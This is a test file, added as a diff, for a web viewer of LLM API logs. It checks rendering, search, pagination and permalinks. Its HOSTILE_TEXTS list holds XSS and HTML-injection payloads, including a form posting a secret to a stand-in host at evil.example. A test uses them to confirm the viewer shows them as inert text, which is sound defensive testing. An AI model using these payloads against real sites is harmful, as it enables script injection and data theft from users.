@@ -1,0 +1,230 @@
+"""The open and timeline pages in Chromium, against `traceview serve` on a free port.
+
+One server per module, started on a tmp folder holding a sample log, a long log and a
+hostile log. Screenshots go to TRACEVIEW_SHOTS when set (else a tmp folder).
+"""
+from __future__ import annotations
+
+import json
+import re
+from pathlib import Path
+from urllib.parse import parse_qs, urlparse
+
+import pytest
+
+import parsers
+
+from .conftest import copy_into, start_server
+
+REPO = Path(__file__).resolve().parents[2]
+SAMPLES = REPO / "sample_data" / "api_logs"
+
+EVIL_HOST = "evil.example"
+HOSTILE_TEXTS = [
+    "<script>window.__pwned = 'script'</script>",
+    f'<iframe srcdoc="<script>parent.__pwned = \'iframe\'</script>" src="http://{EVIL_HOST}/frame"></iframe>',
+    "<img src=x onerror=\"window.__pwned = 'onerror'\">",
+    "<style>body { background: rgb(255, 0, 0) !important; color: lime !important; font-family: serif !important }"
+    " .tv-msg { display: none !important }</style>",
+    f'<form action="http://{EVIL_HOST}/steal" method="post"><input name="q" value="secret"><button>send</button></form>',
+    "[click me](javascript:window.__pwned='link') and <a href=\"javascript:window.__pwned='a'\">this</a>",
+    f"![remote](http://{EVIL_HOST}/track.png) and <img src=\"https://{EVIL_HOST}/t2.png\">",
+    f"<title>pwned title</title><meta http-equiv=\"refresh\" content=\"0;url=http://{EVIL_HOST}/\">"
+    f"<link rel=\"stylesheet\" href=\"http://{EVIL_HOST}/x.css\"><base href=\"http://{EVIL_HOST}/\">",
+    f"<svg onload=\"window.__pwned='svg'\"><image href=\"http://{EVIL_HOST}/svg.png\"/></svg>"
+    f"<video poster=\"http://{EVIL_HOST}/p.png\"></video><object data=\"http://{EVIL_HOST}/o\"></object>",
+]
+
+
+def write_hostile_log(path: Path) -> None:
+    """An OpenAI request log whose every text slot carries markup meant to act in the page."""
+    evil = "\n\n".join(HOSTILE_TEXTS)
+    msgs = [{"role": "system", "content": evil},
+            {"role": "user", "content": f"![t](http://{EVIL_HOST}/title.png) <script>window.__pwned='title'</script> {evil}"},
+            {"role": "assistant", "content": evil, "tool_calls": [
+                {"id": "call_1", "type": "function", "function": {"name": "<img src=x onerror=alert(1)>",
+                                                                  "arguments": json.dumps({"html": evil})}}]},
+            {"role": "tool", "tool_call_id": "call_1", "content": evil}]
+    rec = {"id": "evil-1", "timestamp": "2025-01-01T00:00:00Z", "duration_ms": 10,
+           "request": {"model": "gpt-4o", "messages": msgs},
+           "response": {"choices": [{"message": {"role": "assistant", "content": evil}}],
+                        "usage": {"prompt_tokens": 5, "completion_tokens": 5}}}
+    path.write_text(json.dumps(rec) + "\n")
+
+
+def write_long_log(path: Path, n: int = 130, big_at: int = 60) -> None:
+    msgs = [{"role": "system", "content": "be brief"}]
+    for i in range(1, n):
+        text = f"message number {i}"
+        if i == big_at:
+            text = "BIG-START " + ("lorem ipsum " * 1200) + " BIG-END"
+        msgs.append({"role": "user" if i % 2 else "assistant", "content": text})
+    rec = {"id": "long-1", "timestamp": 1_700_000_000_000, "request": {"model": "gpt-4o", "messages": msgs},
+           "response": {"choices": [{"message": {"role": "assistant", "content": "final answer"}}],
+                        "usage": {"prompt_tokens": 10, "completion_tokens": 2}}}
+    path.write_text(json.dumps(rec) + "\n")
+
+
+def tid(path: Path) -> str:
+    doc, _ = parsers.cook_paths([path])
+    return doc["traces"][0]["id"]
+
+
+@pytest.fixture(scope="module")
+def app(tmp_path_factory):
+    d = tmp_path_factory.mktemp("served")
+    copy_into(d / "logs", SAMPLES / "anthropic_messages.jsonl")
+    write_long_log(d / "logs" / "long.jsonl")
+    write_hostile_log(d / "logs" / "hostile.jsonl")
+    server = start_server([d / "logs"], d)
+    server.ids = {name: tid(d / "logs" / name) for name in ("anthropic_messages.jsonl", "long.jsonl", "hostile.jsonl")}
+    yield server
+    server.stop()
+
+
+def open_timeline(page, app, name: str, **params):
+    query = "&".join([f"trace={app.ids[name]}", *(f"{k}={v}" for k, v in params.items())])
+    page.goto(f"{app.url}/timeline?{query}")
+    page.wait_for_selector(".tv-root .tv-msg")
+
+
+def url_params(page) -> dict:
+    return {k: v[0] for k, v in parse_qs(urlparse(page.url).query).items()}
+
+
+def choose(page, label: str, option) -> None:
+    """Pick an option of a Streamlit select box (its menu can take a moment to open)."""
+    box = page.get_by_test_id("stSelectbox").filter(has_text=label)
+    for _ in range(4):
+        box.locator("input").click()
+        try:
+            page.get_by_role("option", name=option).click(timeout=5_000)
+            return
+        except Exception:  # noqa: BLE001 - the menu did not open in time: try again
+            page.keyboard.press("Escape")
+    page.get_by_role("option", name=option).click()
+
+
+def rendered(page) -> str:
+    return page.locator(".tv-root").first.inner_text()
+
+
+# -- the tests ------------------------------------------------------------------------------------
+def test_timeline_by_url_styles_every_role_and_nests_results(page, app):
+    open_timeline(page, app, "anthropic_messages.jsonl")
+    for role in ("system", "user", "assistant", "thinking", "tool_use"):
+        assert page.locator(f".tv-msg.tv-role-{role}").count() >= 1, role
+    colours = {page.locator(f".tv-msg.tv-role-{r}").first.evaluate("e => getComputedStyle(e).borderLeftColor")
+               for r in ("system", "user", "assistant", "thinking", "tool_use")}
+    assert len(colours) == 5  # each role has its own look
+    # A call and its result, together: the run_tests call shows the test failure it got back.
+    call = page.locator(".tv-msg.tv-role-tool_use", has_text="run_tests").first
+    assert "1 failed" in call.locator(".tv-result").inner_text()
+    # Thinking starts collapsed.
+    assert page.locator("details.tv-thinking").first.evaluate("e => e.open") is False
+    assert url_params(page)["trace"] == app.ids["anthropic_messages.jsonl"]
+
+
+def test_open_by_upload_then_pick_it_from_the_runs_table(page, app):
+    page.goto(app.url + "/")
+    page.wait_for_selector("text=Open traces")
+    page.locator("input[type=file]").first.set_input_files(str(SAMPLES / "openai_chat.jsonl"))
+    page.get_by_role("button", name=re.compile("openai_chat.jsonl")).wait_for()
+    # Filter the runs table down to the upload, then select its row.
+    box = page.get_by_label("Filter")
+    box.fill("order 4471")
+    box.press("Enter")
+    page.wait_for_timeout(1500)
+    grid = page.get_by_test_id("stDataFrame").first.bounding_box()
+    page.mouse.click(grid["x"] + 16, grid["y"] + 35 + 17)  # the first row's selection box
+    page.wait_for_selector(".tv-root .tv-msg")
+    trace = tid(SAMPLES / "openai_chat.jsonl")
+    assert url_params(page)["trace"] == trace
+    assert "rate_limit_error" in rendered(page)  # the failed request stands out...
+    assert page.locator(".tv-msg.tv-error").count() >= 1
+    # ...the sidebar links carry the trace along...
+    assert f"trace={trace}" in page.get_by_role("link", name="Open").get_attribute("href")
+    # ...and the upload stays on the server: its link opens in a new session.
+    page.goto(f"{app.url}/timeline?trace={trace}")
+    page.wait_for_selector(".tv-root .tv-msg")
+
+
+def test_expand_a_long_message(page, app):
+    open_timeline(page, app, "long.jsonl", msg=60)
+    assert "BIG-END" not in rendered(page)
+    choose(page, "Expand a long message", re.compile("#60"))
+    page.wait_for_function("() => document.querySelector('.tv-root').innerText.includes('BIG-END')")
+    assert url_params(page)["msg"] == "60"
+
+
+def test_find_counts_and_jumps(page, app):
+    open_timeline(page, app, "long.jsonl")
+    box = page.get_by_label("Find in trace")
+    box.fill("number 12")
+    box.press("Enter")
+    page.wait_for_selector("text=find: 11 messages, 11 hits")  # 12 and 120-129
+    assert page.locator("mark.tv-hit").count() >= 1
+    page.get_by_role("button", name="Next", exact=True).click()
+    page.wait_for_function("() => location.search.includes('msg=12')")
+    page.get_by_role("button", name="Next", exact=True).click()
+    page.wait_for_function("() => location.search.includes('msg=120')")
+    page.wait_for_selector("#msg-120")  # page 3 now shows
+
+
+def test_pages_and_permalink_round_trip(page, app):
+    open_timeline(page, app, "long.jsonl")
+    assert page.locator("#msg-0").count() == 1 and page.locator("#msg-50").count() == 0
+    page.get_by_test_id("stPaginationNext").click()
+    page.wait_for_selector("#msg-50")
+    assert url_params(page)["msg"] == "50" and page.locator("#msg-0").count() == 0
+    link = page.url
+    page.goto("about:blank")
+    page.goto(link)  # a new session from the link alone
+    page.wait_for_selector("#msg-50")
+    assert page.locator("#msg-49").count() == 0
+    # A link to one message scrolls to it.
+    open_timeline(page, app, "long.jsonl", msg=88)
+    page.wait_for_function("() => { const r = document.getElementById('msg-88').getBoundingClientRect();"
+                           " return r.top > -5 && r.top < window.innerHeight / 2; }")
+
+
+def test_hostile_trace_renders_inert(page, app, shots_dir):
+    hosts, seen = set(), []
+
+    def on_request(req):
+        seen.append(req.url)
+        u = urlparse(req.url)
+        if u.scheme in ("http", "https", "ws", "wss"):
+            hosts.add(u.hostname)
+
+    page.on("request", on_request)
+    open_timeline(page, app, "long.jsonl")
+    title = page.title()
+    style = page.evaluate("() => { const s = getComputedStyle(document.body);"
+                          " return [s.backgroundColor, s.color, s.fontFamily, s.display].join('|'); }")
+    open_timeline(page, app, "hostile.jsonl")
+    page.wait_for_timeout(1500)  # time for anything that would fire to fire
+    root = page.locator(".tv-root").first
+    text = root.inner_text()
+    assert "<script>window.__pwned" in text and "<form action=" in text  # shown as text
+    assert page.evaluate("() => window.__pwned") is None
+    assert page.title() == title
+    assert page.evaluate("() => { const s = getComputedStyle(document.body);"
+                         " return [s.backgroundColor, s.color, s.fontFamily, s.display].join('|'); }") == style
+    assert page.locator(".tv-msg").first.is_visible()  # the injected style did not hide messages
+    for sel in ("form", "iframe", "script", "style", "object", "svg", "video", "base", "meta", "link", "input"):
+        assert page.locator(f".tv-root {sel}").count() == 0, sel
+    assert page.locator(".tv-root [onerror], .tv-root [onload], .tv-root a[href^='javascript']").count() == 0
+    srcs = page.locator(".tv-root img").evaluate_all("els => els.map(e => e.getAttribute('src'))")
+    assert all(s.startswith("data:image/") for s in srcs), srcs
+    assert hosts == {"127.0.0.1"}, sorted(u for u in seen if EVIL_HOST in u)
+    page.screenshot(path=str(shots_dir / "hostile.png"))
+
+
+def test_screenshot(page, app, shots_dir):
+    page.set_viewport_size({"width": 1400, "height": 2400})
+    open_timeline(page, app, "anthropic_messages.jsonl")
+    page.wait_for_timeout(500)
+    out = shots_dir / "timeline.png"
+    page.screenshot(path=str(out))
+    assert out.stat().st_size > 20_000
